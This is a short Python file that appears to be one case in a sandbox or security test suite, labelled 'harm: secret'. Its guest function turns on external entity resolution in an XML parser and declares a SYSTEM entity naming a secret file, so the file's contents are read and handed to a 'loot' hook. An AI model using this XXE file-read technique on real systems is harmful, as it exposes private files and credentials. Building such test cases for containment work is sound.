"""
The secret is read as an entity of an XML document.
harm: secret
"""

import io
import xml.sax
import xml.sax.handler


def guest(world):
    class Collect(xml.sax.handler.ContentHandler):
        text = ""

        def characters(self, content):
            self.text += content

    parser, handler = xml.sax.make_parser(), Collect()
    parser.setFeature(xml.sax.handler.feature_external_ges, True)
    parser.setContentHandler(handler)
    document = f'<!DOCTYPE a [<!ENTITY b SYSTEM "{world.secret}">]><a>&b;</a>'
    parser.parse(io.StringIO(document))
    world.loot(handler.text)
